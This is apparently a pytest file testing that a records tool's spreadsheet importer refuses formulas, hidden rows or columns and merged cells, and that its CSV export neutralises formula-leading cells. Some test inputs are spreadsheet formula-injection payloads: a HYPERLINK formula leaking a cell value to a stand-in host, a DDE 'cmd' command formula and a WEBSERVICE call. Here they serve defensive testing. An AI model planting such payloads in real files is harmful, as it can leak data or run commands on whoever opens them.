"""Workbooks take values, not instructions: crafted .xlsx files built with openpyxl (and,
where openpyxl cannot write the trick, by editing the XML inside the zip), and the CSV of
``ctmt list`` safe to open in a spreadsheet.

A formula is never taken at its cached value: a plain arithmetic of numbers is recomputed,
anything else is refused naming the sheet and the cell; hidden rows, hidden columns of
values, cells merged over the data and a key row that contradicts the visible headers are
refused; nothing is written when anything is refused.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import func, select

from ctmt_desktop.catalog import Catalog
from ctmt_desktop.db import Database
from ctmt_desktop.db.models import Activity
from ctmt_desktop.formatting import spreadsheet_text
from ctmt_desktop.services.records import add_record, record_context
from ctmt_desktop.spreadsheets.importer import (
    ImportRejected,
    ImportResult,
    SheetProblem,
    WorkbookError,
    import_workbook,
)
from ctmt_desktop.spreadsheets.layout import FIRST_DATA_ROW, HEADER_ROW, KEY_ROW, SHEET_NAMES
from ctmt_desktop.spreadsheets.templates import write_template

MakeRecord = Callable[..., dict[str, Any]]
PROVINCE = "44"
SHEET = SHEET_NAMES["training"]


def _row(**changes: Any) -> dict[str, Any]:
    """A valid training row as a person types it in the template."""
    row: dict[str, Any] = {
        "program": "Đào tạo, bồi dưỡng nâng cao năng lực cán bộ làm công tác thông tin và "
        "truyền thông cơ sở",
        "title": "Tập huấn kỹ năng thông tin cơ sở",
        "start_date": datetime(2024, 3, 5),
        "end_date": datetime(2024, 3, 7),
        "places": "Xã Lao Bảo (19432)",
        "funding_source": "Ngân sách trung ương",
        "days": 3,
        "form": "Trực tiếp",
        "participants": 50,
        "participants_female": 20,
        "cost": 45_000_000,
    }
    row.update(changes)
    return row


def _workbook(
    path: Path,
    catalog: Catalog,
    rows: list[dict[str, Any]],
    edit: Callable[[Any, dict[str, int]], None] | None = None,
) -> Path:
    """The training template with ``rows`` filled in from row 4; ``edit(sheet, columns)``
    may change it further (``columns``: key -> column number)."""
    write_template("training", path, catalog, province=PROVINCE)
    book = openpyxl.load_workbook(path)
    sheet = book[SHEET]
    columns = {cell.value: cell.column for cell in sheet[KEY_ROW] if cell.value}
    for cell in sheet[FIRST_DATA_ROW]:
        cell.value = None  # the example row
    for offset, row in enumerate(rows):
        sheet.cell(row=FIRST_DATA_ROW + offset, column=1, value=offset + 1)
        for key, value in row.items():
            sheet.cell(row=FIRST_DATA_ROW + offset, column=columns[key], value=value)
    if edit is not None:
        edit(sheet, columns)
    book.save(path)
    return path


def _letter(columns: dict[str, int], key: str) -> str:
    return openpyxl.utils.get_column_letter(columns[key])


def _count(database: Database) -> int:
    with database.session() as session:
        return int(session.scalar(select(func.count()).select_from(Activity)) or 0)


def _import(database: Database, path: Path) -> ImportResult:
    with database.session() as session:
        return import_workbook(session, record_context(session, database.path), path, "training")


def _rejected(database: Database, path: Path) -> list[SheetProblem]:
    with pytest.raises(ImportRejected) as caught:
        _import(database, path)
    assert _count(database) == 0
    return caught.value.problems


def _refused(database: Database, path: Path, code: str) -> WorkbookError:
    with pytest.raises(WorkbookError) as caught:
        _import(database, path)
    assert caught.value.code == code, str(caught.value)
    assert _count(database) == 0
    return caught.value


def _edit_sheet_xml(path: Path, change: Callable[[str], str]) -> None:
    """Rewrite the first worksheet's XML inside the workbook's zip."""
    with zipfile.ZipFile(path) as source:
        entries = [(item, source.read(item)) for item in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item, data in entries:
            if item.filename == "xl/worksheets/sheet1.xml":
                data = change(data.decode()).encode()
            target.writestr(item, data)


# --- formulas ---------------------------------------------------------------------------------
def test_a_formula_referring_to_cells_is_refused_naming_sheet_and_cell(
    database: Database, catalog: Catalog, tmp_path: Path
) -> None:
    path = tmp_path / "f.xlsx"
    _workbook(path, catalog, [_row(), _row(title="Lớp thứ hai")])
    book = openpyxl.load_workbook(path)
    columns = {cell.value: cell.column for cell in book[SHEET][KEY_ROW] if cell.value}
    cost = _letter(columns, "cost")
    book[SHEET][f"{cost}5"] = f"={cost}4*2"
    book.save(path)
    [problem] = _rejected(database, path)
    assert (problem.code, problem.sheet, problem.excel_row, problem.column) == (
        "formula",
        SHEET,
        5,
        cost,
    )
    assert f"cell {cost}5 holds the formula ={cost}4*2" in str(problem)
    assert str(problem).startswith(f"sheet '{SHEET}', row 5, column {cost}")


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://example.invalid/?leak="&B4,"Mở tài liệu")',
        "=cmd|' /C calc'!A0",
        '=WEBSERVICE("http://example.invalid")',
        "=1+1+SUM(1)",
    ],
)
def test_a_formula_calling_a_function_is_refused(
    database: Database, catalog: Catalog, tmp_path: Path, formula: str
) -> None:
    path = _workbook(tmp_path / "f.xlsx", catalog, [_row(title=formula)])
    [problem] = _rejected(database, path)
    assert problem.code == "formula" and problem.field == "title"
    assert "holds the formula =" in problem.message


def test_a_plain_arithmetic_of_numbers_is_recomputed_not_its_cached_value(
    database: Database, catalog: Catalog, tmp_path: Path
) -> None:
    path = _workbook(
        tmp_path / "f.xlsx",
        catalog,
        [_row(cost="=45000000+2000000", participants="=(30+20)*1", participants_female="=40/2")],
    )
    # The file says the participants formula computed 5,000: the value cached with it lies.
    _edit_sheet_xml(
        path, lambda xml: re.sub(r"(<f>\(30\+20\)\*1</f>)(<v\s*/>|<v></v>)?", r"\1<v>5000</v>", xml)
    )
    with zipfile.ZipFile(path) as archive:
        assert b"<v>5000</v>" in archive.read("xl/worksheets/sheet1.xml")
    [record] = _import(database, path).sheets[0].records
    assert (record["cost"], record["participants"], record["participants_female"]) == (
        47_000_000,
        50,
        20,
    )


@pytest.mark.parametrize(
    ("formula", "words"),
    [("=1/0", "divides by zero"), ("=9" * 1 + "9" * 25, "too large"), ("=(((2", "formula")],
)
def test_arithmetic_that_cannot_be_a_count_is_refused(
    database: Database, catalog: Catalog, tmp_path: Path, formula: str, words: str
) -> None:
    path = _workbook(tmp_path / "f.xlsx", catalog, [_row(days=formula)])
    problems = _rejected(database, path)
    assert [p.code for p in problems] == ["formula"] and words in problems[0].message


def test_a_cached_value_without_formula_text_is_no_way_around(
    database: Database, catalog: Catalog, tmp_path: Path
) -> None:
    """A shared formula pointing at a master that is not there, an array formula: refused."""
    path = _workbook(tmp_path / "f.xlsx", catalog, [_row(cost="=1+1", participants="=2+2")])
    _edit_sheet_xml(
        path,
        lambda xml: xml.replace("<f>1+1</f>", '<f t="shared" si="7"/><v>45000000</v>').replace(
            "<f>2+2</f>", '<f t="array" ref="A1">2+2</f><v>50</v>'
        ),
    )
    problems = _rejected(database, path)
    assert sorted(p.field for p in problems) == ["cost", "participants"]
    assert {p.code for p in problems} == {"formula"}


def test_a_formula_in_the_key_row_is_refused(
    database: Database, catalog: Catalog, tmp_path: Path
) -> None:
    def edit(sheet: Any, columns: dict[str, int]) -> None:
        sheet.cell(row=KEY_ROW, column=columns["cost"], value='="cost"')

    path = _workbook(tmp_path / "f.xlsx", catalog, [_row()], edit)
    error = _refused(database, path, "formula")
    assert f"cell {error.params['cell']} of the key row" in str(error)


def test_the_exports_formula_totals_row_is_still_skipped(
    database: Database, catalog: Catalog, make_record: MakeRecord, tmp_path: Path
) -> None:
    from ctmt_desktop.spreadsheets.export import export_records

    with database.session() as session:
        add_record(
            session, record_context(session, database.path), "training", make_record("training")
        )
    path = tmp_path / "export.xlsx"
    with database.session() as session:
        export_records(session, catalog, path, kinds=["training"])
    with database.session() as session:
        session.query(Activity).delete()  # import back into an empty database
    result = _import(database, path)
    # One totals row of SUBTOTAL formulas: skipped, its formulas unread.
    assert result.total == 1 and [s.reason for s in result.sheets[0].skipped] == ["totals"]


# --- what a reader does not see ----------------------------------------------------------------
def test_a_hidden_row_is_refused_naming_it(
    database: Database, catalog: Catalog, tmp_path: Path
) -> None:
    def edit(sheet: Any, columns: dict[str, int]) -> None:
        sheet.row_dimensions[5].hidden = True

    path = _workbook(tmp_path / "h.xlsx", catalog, [_row(), _row(title="Lớp ẩn", cost=9)], edit)
    error = _refused(database, path, "hidden_rows")
    assert error.params["rows"] == [5] and "rows 5 are hidden" in str(error)


def test_a_row_too_low_to_see_is_hidden_too(
    database: Database, catalog: Catalog, tmp_path: Path
) -> None:
    def edit(sheet: Any, columns: dict[str, int]) -> None:
        sheet.row_dimensions[4].height = 0.5

    path = _workbook(tmp_path / "h.xlsx", catalog, [_row()], edit)
    assert _refused(database, path, "hidden_rows").params["rows"] == [4]


def test_a_hidden_column_of_values_is_refused(
    database: Database, catalog: Catalog, tmp_path: Path
) -> None:
    cost = {}

    def edit(sheet: Any, columns: dict[str, int]) -> None:
        cost["letter"] = _letter(columns, "cost")
        sheet.column_dimensions[cost["letter"]].hidden = True

    path = _workbook(tmp_path / "h.xlsx", catalog, [_row()], edit)
    assert _refused(database, path, "hidden_columns").params["column"] == cost["letter"]


def test_cells_merged_over_the_data_are_refused_naming_them(
    database: Database, catalog: Catalog, tmp_path: Path
) -> None:
    merged = {}

    def edit(sheet: Any, columns: dict[str, int]) -> None:
        cost = _letter(columns, "cost")
        merged["range"] = f"{cost}4:{cost}5"
        sheet.merge_cells(merged["range"])

    path = _workbook(tmp_path / "m.xlsx", catalog, [_row(), _row(title="Lớp 2")], edit)
    error = _refused(database, path, "merged_cells")
    assert error.params["ranges"] == [merged["range"]] and merged["range"] in str(error)


def test_a_merged_title_above_the_table_is_fine(
    database: Database, catalog: Catalog, tmp_path: Path
) -> None:
    def edit(sheet: Any, columns: dict[str, int]) -> None:
        sheet.merge_cells("A1:F1")

    path = _workbook(tmp_path / "m.xlsx", catalog, [_row()], edit)
    assert _import(database, path).total == 1


def test_a_key_row_that_contradicts_the_headers_is_refused(
    database: Database, catalog: Catalog, tmp_path: Path
) -> None:
    """The key row says cost where the header shown says participants (and the other way):
    a person would check the wrong figures."""
    swapped = {}

    def edit(sheet: Any, columns: dict[str, int]) -> None:
        cost, people = columns["cost"], columns["participants"]
        header_cost = sheet.cell(row=HEADER_ROW, column=cost).value
        header_people = sheet.cell(row=HEADER_ROW, column=people).value
        sheet.cell(row=HEADER_ROW, column=cost, value=header_people)
        sheet.cell(row=HEADER_ROW, column=people, value=header_cost)
        swapped["letters"] = sorted([_letter(columns, "cost"), _letter(columns, "participants")])

    path = _workbook(tmp_path / "k.xlsx", catalog, [_row()], edit)
    error = _refused(database, path, "key_mismatch")
    assert error.params["column"] == swapped["letters"][0]
    assert "the key row must match the visible headers" in str(error)


# --- the CSV of ctmt list -----------------------------------------------------------------------
def test_spreadsheet_text_neutralises_formula_starts() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\uff1d1+1"):
        assert spreadsheet_text(text) == "'" + text
    for text in ("Lớp học", "1-2", "", "a=b", " =x"):
        assert spreadsheet_text(text) == text


def test_ctmt_list_csv_neutralises_cells_that_would_run_as_formulas(
    database: Database, make_record: MakeRecord, capsys: pytest.CaptureFixture[str]
) -> None:
    from ctmt_desktop.cli import main

    titles = ['=HYPERLINK("http://example.invalid","Bấm")', "+84 học viên", "-Lớp", "@Lớp", "Lớp"]
    with database.session() as session:
        context = record_context(session, database.path)
        for title in titles:
            record = make_record("training", title=title, notes="=1+2")
            add_record(session, context, "training", record)
    capsys.readouterr()
    assert main(["list", "training", "--db", str(database.path), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["title"] for row in rows] == ["'" + t if t[0] in "=+-@" else t for t in titles]
    assert {row["notes"] for row in rows} == {"'=1+2"}
    assert {row["cost"] for row in rows} == {"45000000"}  # numbers stay numbers
